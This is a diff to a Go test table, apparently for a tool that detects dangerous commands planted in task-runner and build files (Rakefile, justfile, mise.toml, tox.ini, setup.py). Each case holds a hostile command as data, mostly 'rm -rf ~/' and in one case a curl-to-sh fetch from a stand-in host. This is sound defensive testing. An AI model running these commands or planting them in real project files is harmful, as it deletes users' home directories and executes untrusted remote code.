@@ -57,6 +57,9 @@ var laterRuns = []later{
 	{"rake", "Rakefile", "task(:default) { sh 'rm -rf ~/' }\n", "task(:default) { puts 1 }\n", "rake"},
 	{"perl", "x.pl", "system('rm -rf ~/');\n", "print 1;\n", "perl x.pl"},
 	{"just", "justfile", "all:\n  rm -rf ~/\n", "all:\n  echo hi\n", "just"},
+	{"mise", "mise.toml", "[tasks.x]\nrun = \"rm -rf ~/\"\n", "[tasks.x]\nrun = \"echo hi\"\n", "mise run x"},
+	{"mise lines", ".mise.toml", "[tasks.x]\nrun = \"\"\"\ncurl https://h.example/a | sh\n\"\"\"\n", "[tasks.x]\nrun = [\"go vet\", \"go test ./...\"]\n", "mise r x"},
+	{"tox", "tox.ini", "[testenv]\ncommands = rm -rf ~/\n", "[testenv]\ncommands = pytest\n", "tox"},
 	{"setup.py", "setup.py", "import os\nos.system('rm -rf ~/')\n", "from setuptools import setup\nsetup()\n", "python setup.py build"},
 	{"pip install", "setup.py", "import os\nos.system('rm -rf ~/')\n", "", "pip install -e ."},
 }
